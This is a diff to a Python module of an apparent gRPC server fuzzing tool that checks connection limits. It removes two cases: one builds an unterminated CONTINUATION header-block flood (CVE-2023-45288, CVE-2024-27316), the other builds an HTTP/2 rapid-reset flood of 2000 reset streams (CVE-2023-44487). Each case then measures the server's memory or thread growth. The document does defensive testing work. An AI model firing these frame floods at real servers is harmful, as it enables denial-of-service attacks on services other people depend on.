@@ -1,4 +1,4 @@
-"""Limits on connections: streams, header blocks, handlers and floods, with a second client beside them."""
+"""Limits on connections: streams, crowds and floods, with a second client beside them."""
 
 from __future__ import annotations
 
@@ -19,26 +19,19 @@ from puregrpc.fuzz.frames.probe import (
     END_STREAM,
     HEADERS,
     OPENING,
-    PING,
     PREFACE,
-    RST_STREAM,
     SETTINGS,
     block,
     frame,
-    indexed,
     message,
-    plain_literal,
 )
 from puregrpc.fuzz.measures.backlog import backlog_cases
-from puregrpc.fuzz.measures.untaken import untaken_cases
 from puregrpc.fuzz.measures.usage import MEBIBYTE, UsageWatch
 
 __all__ = ["flood_observation", "limit_cases"]
 
 MORE_STREAMS = 20
 MOST_STREAMS = 4000
-HEADER_BLOCK = 24 << 20
-"""Octets of one header block that no server keeps; grpc-go's limit is 16 MiB, and grpcio reads on and keeps nothing."""
 FLOOD_MEMORY = 64 * MEBIBYTE
 FLOOD_FACTOR = 12
 CALL_MEMORY = 48 << 10
@@ -52,8 +45,6 @@ PATIENCE = 3.0
 """Seconds in which another connection is served beside a crowd."""
 MOST_FILES = 2500
 """A process that may have more files open is left in peace: so many connections are more than others can stand."""
-MANY_THREADS = 250
-"""More threads than a pool has: of 2000 calls, each eighth has one of its own."""
 
 Observed = tuple[Case, "Observation | None"]
 
@@ -74,12 +65,7 @@ def limit_cases(
     if watch.is_possible:
         fresh()
         yield from backlog_cases(target, profiles)
-        yield _header_block(target, profiles[0])
-    yield from _resets(target, profiles, watch)
     yield from _crowds(target, profiles[0], deadline, answers)
-    if watch.is_possible:
-        fresh()
-        yield from untaken_cases(target, profiles, deadline, watch)
 
 
 def _crowds(target: Target, profile: Profile, deadline: float, answers: Callable[[float], bool]) -> Iterator[Observed]:
@@ -231,106 +217,6 @@ def _quick(case: Case, target: Target, deadline: float, count: int) -> Outcome:
         target,
         deadline=deadline,
     )
-
-
-def _header_block(target: Target, profile: Profile) -> Observed:
-    """A header block without end (CVE-2024-27316 and its like)."""
-    field = b"\x00" + plain_literal(b"x") + plain_literal(b"a" * 16000)
-    case = Case(
-        "frame",
-        profile.path,
-        (Step("flood", until="large-continuations"),),
-        "any",
-        "a header block that does not end",
-        "CVE-2023-45288, CVE-2024-27316",
-        "high",
-    )
-    piece = frame(CONTINUATION, 0, 1, field)
-    grown = 0
-    for attempt in range(2):
-        before = target.usage()
-        try:
-            link = target.link(raw=True)
-        except OSError:
-            return case, None
-        sent = 0
-        begun = time.monotonic()
-        try:
-            link.send(OPENING + frame(HEADERS, 0, 1, block(profile.fields)))
-            while sent < HEADER_BLOCK and not link.closed and time.monotonic() - begun < 6:
-                if not link.send(piece * 8, 1.0):
-                    break
-                sent += len(piece) * 8
-                link.turn(0)
-                if link.goaway is not None:
-                    break
-            link.turn(0.3)
-            after = target.usage()
-            if link.closed or link.goaway is not None or before is None or after is None:
-                return case, None
-            # What was given back to the process the first time is taken again the second, and does not show.
-            grown = grown or after.memory - before.memory
-            if sent < HEADER_BLOCK or (grown < sent * 3 // 4 and not attempt):
-                return case, None
-        finally:
-            link.close()
-    return case, Observation(
-        "limit-exceeded", f"one header block of {sent >> 20} MiB is kept ({grown >> 20} MiB more)", ("header block",)
-    )
-
-
-def _resets(target: Target, profiles: Sequence[Profile], watch: UsageWatch) -> Iterator[Observed]:
-    """Calls that are reset as soon as they are made (CVE-2023-44487), of the slowest method and the quickest."""
-    chosen = {
-        each.path: each for each in (max(profiles, key=lambda e: e.seconds), min(profiles, key=lambda e: e.seconds))
-    }
-    for profile in chosen.values():
-        first, following = indexed(profile.fields)
-        body = message(profile.octets)[:16000]
-        out = bytearray(OPENING)
-        for number in range(2000):
-            stream = 1 + 2 * number
-            out += frame(HEADERS, END_HEADERS, stream, following if number else first)
-            out += frame(DATA, END_STREAM, stream, body) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
-        case = Case(
-            "frame",
-            profile.path,
-            (Step("raw", octets=bytes(out), seconds=0.5),),
-            "any",
-            "2000 calls that are reset at once",
-            "CVE-2023-44487 (rapid reset)",
-            "high",
-        )
-        grown: list[int] = []
-        for _ in range(2 if watch.is_possible else 1):
-            before = target.usage()
-            most = _threads_meanwhile(target, bytes(out) + frame(PING, 0, 0, bytes(8)))
-            grown.append(most - before.threads if before is not None else 0)
-            if grown[0] <= MANY_THREADS:
-                break
-        observation = None
-        if len(grown) == 2 and min(grown) > MANY_THREADS:
-            observation = Observation(
-                "limit-exceeded", f"{case.about}: {min(grown)} threads more", ("threads",), "high", case.reference
-            )
-        yield case, observation
-
-
-def _threads_meanwhile(target: Target, octets: bytes) -> int:
-    """Send octets that end with PING; the most threads that the target has until it has answered that."""
-    most = 0
-    try:
-        with target.link(raw=True) as link:
-            link.send(octets)
-            until = time.monotonic() + 6
-            while not link.pongs and not link.closed and time.monotonic() < until:
-                link.turn(0.1)
-                usage = target.usage()
-                most = max(most, usage.threads if usage is not None else 0)
-    except OSError:
-        pass
-    usage = target.usage()
-    return max(most, usage.threads if usage is not None else 0)
 
 
 @lru_cache
